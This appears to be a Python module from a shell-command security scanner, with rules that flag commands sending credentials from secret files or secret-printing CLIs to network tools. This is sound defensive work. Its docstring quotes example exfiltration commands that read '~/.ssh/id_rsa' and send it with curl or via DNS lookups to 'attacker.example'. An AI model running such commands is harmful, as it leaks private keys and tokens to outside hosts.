"""Credentials carried by a variable: a program that sends a variable loaded from a credential
file or a secret store (``k=$(cat ~/.ssh/id_rsa); curl -d "$k" …``, a ``for`` loop over a key
with ``dig $l.attacker.example``) sends the credential."""

from __future__ import annotations

import re
from collections.abc import Iterator

from .shell_binaries import NET_TOOLS
from .shell_feeds import secret_text
from .shell_model import Program
from .shell_rule_kit import Context, Flag, critical, program_rule
from .shell_rules_net import LOCAL, host_of

__all__ = ["secret_variables_sent", "secrets_substituted"]

_SENDERS = NET_TOOLS | {"ping", "ping6", "traceroute", "mail", "sendmail", "mutt", "logger"}


_HOMES = re.compile(
    r"(?:^|\.)(?:googleapis\.com|google\.com|azure\.com|microsoft\.com|windows\.net|"
    r"github\.com|githubusercontent\.com|amazonaws\.com|gitlab\.com)$"
)
"""Where the tokens the secret-printing CLIs make (gcloud, az, gh, aws) are meant to go."""


@program_rule
def secrets_substituted(prog: Program, ctx: Context) -> Iterator[Flag]:
    """A secret printed by a substitution inside a sender's words (``curl -H "Authorization:
    Bearer $(gcloud auth print-access-token)" https://elsewhere``): sent — in a header, to a host
    other than the token's own."""
    for cmd in prog.commands:
        if cmd.name not in _SENDERS:
            continue
        sent = set(_sent(cmd.argv))
        host = host_of(cmd)
        for word in cmd.argv[1:]:
            if ("$(" not in word and "`" not in word) or not secret_text(word):
                continue
            if word not in sent and (_HOMES.search(host) or LOCAL.match(host)):
                continue  # a token authenticating to its own service
            yield critical(
                "sends a credential printed by a command",
                cmd.text,
                f"{cmd.name} is given what a command printing a secret returns.",
                "Never send credentials but to their own service; rotate them if this ran.",
            )
            return


@program_rule
def secret_variables_sent(prog: Program, ctx: Context) -> Iterator[Flag]:
    if not prog.secret_vars:
        return
    names = "|".join(re.escape(name) for name in sorted(prog.secret_vars)[:64])
    used = re.compile(rf"\$(?:\{{)?(?:{names})(?!\w)")
    for cmd in prog.commands:
        if cmd.name not in _SENDERS:
            continue
        words = [*_sent(cmd.argv), *(r.target for r in cmd.redirects), cmd.stdin or ""]
        if any(used.search(w) for w in words):
            yield critical(
                "sends a credential held in a variable",
                cmd.text,
                f"{cmd.name} is given a variable loaded from a credential file or secret store.",
                "Never send credentials; rotate them if this ran.",
            )
            return


_HEADER_OPTIONS = frozenset({"-H", "--header", "--oauth2-bearer", "--proxy-header"})


def _sent(argv: list[str]) -> list[str]:
    """The words of ``argv`` but header values: a token in ``Authorization: Bearer $T``
    authenticates to the host, as it was made to; in a body, a URL or a name it is sent."""
    out: list[str] = []
    skip = False
    for word in argv[1:]:
        if skip:
            skip = False
        elif word in _HEADER_OPTIONS:
            skip = True
        elif not word.startswith(("--header=", "-H")) or word == "-":
            out.append(word)
    return out
